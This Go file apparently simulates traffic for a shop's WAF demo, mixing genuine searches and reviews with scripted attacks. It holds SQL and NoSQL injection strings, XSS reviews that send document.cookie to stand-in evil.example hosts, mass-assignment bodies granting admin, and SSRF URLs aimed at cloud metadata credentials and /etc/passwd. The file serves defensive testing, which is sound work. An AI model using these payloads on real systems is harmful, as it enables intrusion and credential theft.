package demo

import (
	"context"
	"encoding/json"
	"math/rand/v2"
	"net/http"
	"net/url"
	"strconv"
	"time"
)

// Scenarios of request inspection (docs/openapi.md, docs/waf.md): the
// shop's spec is enforced and free-text values are scanned for injection,
// so attacks that look like ordinary API calls to a network firewall are
// refused, while customers who search, review and edit their profiles are
// not.

// ---- genuine: search, reviews, profile ----

// searchQueries are what customers type into the shop's search box.
var searchQueries = []string{
	"rain jacket", "women's merino", "trail shoes size 42", "bottle", "O'Neill",
	"gift voucher", "headlamp - red light", "energy bars (no sugar)", "poles & gloves", "Größe 44",
}

// reviews are what customers write about what they bought: apostrophes,
// quotes, emoji, numbers, punctuation, several languages.
var genuineReviews = []reviewRequest{
	{5, "Great shoes!", "Didn't expect them to grip this well on wet rock. I've done 300 km so far and they're fine."},
	{4, "Warm, but itchy at first", "It's warm enough for -5 °C mornings; the first two washes it was a bit itchy. Size M fits a 1.80 m / 75 kg runner."},
	{5, "Keeps coffee hot", "Filled it at 7am, still hot at 3pm 👍 The lid is \"leak-proof\" as promised."},
	{3, "OK for the price", "The red mode is nice for camp. Battery lasts ~4h on high, less than the 5h they claim."},
	{5, "Perfect gift", "Sent it to my sister; she got the e-mail within a minute. Would buy again!"},
	{2, "Too small", "Ordered L (I'm usually L) and it's tight across the shoulders. Returning it - hope that's quick."},
	{4, "Très bien", "Légère et pratique, se range dans sa poche. Un peu chère mais ça vaut le coup."},
	{5, "Best poles I've owned", "Cork grips don't get sweaty & the flick-lock is solid. 10/10 for steep descents."},
}

// browseCatalog is a customer searching and reading reviews.
func browseCatalog(ctx context.Context, a *Agent) {
	if chance(0.5) {
		q := url.Values{"q": {pick(searchQueries)}}
		if chance(0.3) {
			q.Set("sort", pick([]string{"price", "-price", "name"}))
		}
		if chance(0.2) {
			q.Set("max_price", strconv.Itoa(30+10*rand.IntN(10)))
		}
		a.Get(ctx, "/api/products?"+q.Encode())
	}
	if chance(0.3) && think(ctx, 300*time.Millisecond, time.Second) {
		a.Get(ctx, "/api/products/"+strconv.Itoa(1+rand.IntN(8))+"/reviews")
	}
}

// reviewOrEditProfile is a signed-in customer writing a review or changing
// their avatar or phone number (always their own profile).
func reviewOrEditProfile(ctx context.Context, a *Agent, user string) {
	if chance(0.15) && think(ctx, 500*time.Millisecond, 2*time.Second) {
		expired(a, a.PostJSON(ctx, "/api/products/"+strconv.Itoa(1+rand.IntN(8))+"/reviews", pick(genuineReviews)))
	}
	if chance(0.1) && think(ctx, 500*time.Millisecond, 2*time.Second) {
		p := fixtureUsers()[user]
		upd := map[string]any{"avatar_url": "https://images.shopcdn.example/avatars/" + user + "/" + strconv.Itoa(rand.IntN(100)) + ".jpg"}
		if chance(0.5) {
			upd = map[string]any{"phone": p.Phone, "full_name": p.FullName}
		}
		expired(a, a.PatchJSON(ctx, "/api/users/"+user, upd))
	}
}

// ---- sql-injection (attack) ----

// sqlInjectionIP is a rented server running an SQL-injection tool.
const sqlInjectionIP = "193.42.33.7"

// sqlProbes put SQL (and NoSQL) into the search box, a product id and the
// login form.
var sqlProbes = []struct {
	method, path string
	body         string
}{
	{"GET", "/api/products?q=" + url.QueryEscape("' OR '1'='1"), ""},
	{"GET", "/api/products?q=" + url.QueryEscape("shoes' UNION SELECT username, iban, card_last4 FROM users--"), ""},
	{"GET", "/api/products?q=" + url.QueryEscape("x'; DROP TABLE orders; --"), ""},
	{"GET", "/api/products?q=" + url.QueryEscape("1' AND SLEEP(5)#"), ""},
	{"GET", "/api/products?category=" + url.QueryEscape("shoes' OR 1=1--"), ""},
	{"GET", "/api/products/" + url.PathEscape("1 OR 1=1"), ""},
	{"POST", "/api/login", `{"username":"carol'--","password":"x"}`},
	{"POST", "/api/login", `{"username":{"$ne":null},"password":{"$ne":null}}`},
	{"POST", "/api/login", `{"username":"admin","password":"' OR ''='"}`},
}

func runSQLInjection(ctx context.Context, c *Client) {
	a := c.Agent(sqlInjectionIP, "sqlmap/1.8.11#stable (https://sqlmap.org)", nil)
	for i := 0; ctx.Err() == nil; i++ {
		p := sqlProbes[i%len(sqlProbes)]
		var body []byte
		if p.body != "" {
			body = []byte(p.body)
		}
		a.Do(ctx, p.method, p.path, body)
		think(ctx, 150*time.Millisecond, 500*time.Millisecond)
	}
}

// ---- xss (attack) ----

// xssIP is an attacker with an ordinary customer account (bob's, phished).
const xssIP = "109.70.100.21"

// xssReviews would run in every visitor's browser: the shop renders
// reviews as HTML.
var xssReviews = []reviewRequest{
	{5, "Love it", "<script>fetch('https://collect.evil.example/?c='+document.cookie)</script>"},
	{5, `<img src=x onerror="location='https://evil.example/'+document.cookie">`, "nice"},
	{4, "Great", `<svg/onload=alert(document.domain)>`},
	{5, "Must buy", `<a href="javascript:alert(1)">free voucher here</a>`},
	{1, "meh", `<iframe src="https://evil.example/phish"></iframe>`},
}

func runXSS(ctx context.Context, c *Client) {
	a := c.Agent(xssIP, uaChromeWin, browserHeaders("en-US,en;q=0.9"))
	for i := 0; ctx.Err() == nil; i++ {
		if a.Token() == "" {
			if r := a.Login(ctx, "bob", DemoPassword); !r.OK() {
				think(ctx, time.Second, 2*time.Second)
				continue
			}
		}
		if i%3 == 2 { // reflected, through the search box
			expired(a, a.Get(ctx, "/api/products?q="+url.QueryEscape(`"><script>alert(1)</script>`)))
		} else {
			expired(a, a.PostJSON(ctx, "/api/products/"+strconv.Itoa(1+i%8)+"/reviews", xssReviews[i%len(xssReviews)]))
		}
		think(ctx, 200*time.Millisecond, 600*time.Millisecond)
	}
}

// ---- mass-assignment (attack) ----

// massAssignIP is bob, curious what else the profile endpoint accepts.
const massAssignIP = "84.17.33.9"

// massAssignments add properties a client must not set: the profile's role
// (the spec leaves ProfileUpdate open, the gateway closes it), and an
// order's status and price (readOnly or undeclared in OrderRequest).
var massAssignments = []struct {
	path, method string
	body         map[string]any
}{
	{"/api/users/bob", http.MethodPatch, map[string]any{"phone": "+31 20 555 0199", "role": "admin"}},
	{"/api/users/bob", http.MethodPatch, map[string]any{"role": "admin"}},
	{"/api/users/bob", http.MethodPatch, map[string]any{"full_name": "Bob Janssen", "card_last4": "0000", "iban": "NL02ABNA0123456789"}},
	{"/api/orders", http.MethodPost, map[string]any{"product_id": 8, "quantity": 10, "payment": "invoice", "status": "paid"}},
	{"/api/orders", http.MethodPost, map[string]any{"product_id": 5, "quantity": 1, "payment": "card", "unit_price": 0.01}},
}

func runMassAssignment(ctx context.Context, c *Client) {
	a := c.Agent(massAssignIP, uaFirefoxWin, browserHeaders("nl-NL,nl;q=0.9"))
	for i := 0; ctx.Err() == nil; i++ {
		if a.Token() == "" {
			if r := a.Login(ctx, "bob", DemoPassword); !r.OK() {
				think(ctx, time.Second, 2*time.Second)
				continue
			}
		}
		m := massAssignments[i%len(massAssignments)]
		b, _ := json.Marshal(m.body)
		expired(a, a.Do(ctx, m.method, m.path, b))
		think(ctx, 300*time.Millisecond, 900*time.Millisecond)
	}
}

// ---- shadow-endpoint (attack) ----

// shadowIP found /api/debug/vars in an old build of the shop's web app.
const shadowIP = "146.70.117.50"

// shadowPaths are operations the spec does not declare.
var shadowPaths = []string{
	"/api/debug/vars", "/api/debug/pprof/heap", "/api/internal/config", "/api/swagger.json", "/api/v2/users/alice",
}

func runShadowEndpoint(ctx context.Context, c *Client) {
	a := c.Agent(shadowIP, uaCurl, nil)
	for i := 0; ctx.Err() == nil; i++ {
		a.Get(ctx, shadowPaths[i%len(shadowPaths)])
		think(ctx, 300*time.Millisecond, time.Second)
	}
}

// ---- zombie-endpoint (attack) ----

// zombieIP reads profiles through the deprecated v1 endpoint, which
// predates authentication.
const zombieIP = "146.70.117.51"

func runZombieEndpoint(ctx context.Context, c *Client) {
	a := c.Agent(zombieIP, uaPyAiohttp, nil)
	users := []string{"alice", "bob", "carol"}
	for i := 0; ctx.Err() == nil; i++ {
		a.Get(ctx, "/api/v1/users/"+users[i%len(users)])
		think(ctx, 300*time.Millisecond, time.Second)
	}
}

// ---- ssrf-avatar (attack) ----

// ssrfIP is an attacker with a customer account (bob's) aiming the shop's
// avatar download at its internal network.
const ssrfIP = "185.246.188.74"

// ssrfTargets are internal addresses written the many ways a URL parser
// accepts them, and a scheme the download must not follow.
var ssrfTargets = []string{
	"http://169.254.169.254/latest/meta-data/iam/security-credentials/",
	"http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
	"http://2852039166/latest/user-data",         // 169.254.169.254 as one decimal number
	"http://[::ffff:a9fe:a9fe]/latest/api/token", // the same, IPv4-mapped IPv6
	"http://127.0.0.1:9090/metrics",
	"http://10.20.0.5:8500/v1/kv/?recurse",
	"http://images.shopcdn.example@192.168.1.1/admin",
	"file:///etc/passwd",
}

func runSSRFAvatar(ctx context.Context, c *Client) {
	a := c.Agent(ssrfIP, uaPyRequests, nil)
	for i := 0; ctx.Err() == nil; i++ {
		if a.Token() == "" {
			if r := a.Login(ctx, "bob", DemoPassword); !r.OK() {
				think(ctx, time.Second, 2*time.Second)
				continue
			}
		}
		expired(a, a.PatchJSON(ctx, "/api/users/bob", map[string]any{"avatar_url": ssrfTargets[i%len(ssrfTargets)]}))
		think(ctx, 300*time.Millisecond, 900*time.Millisecond)
	}
}
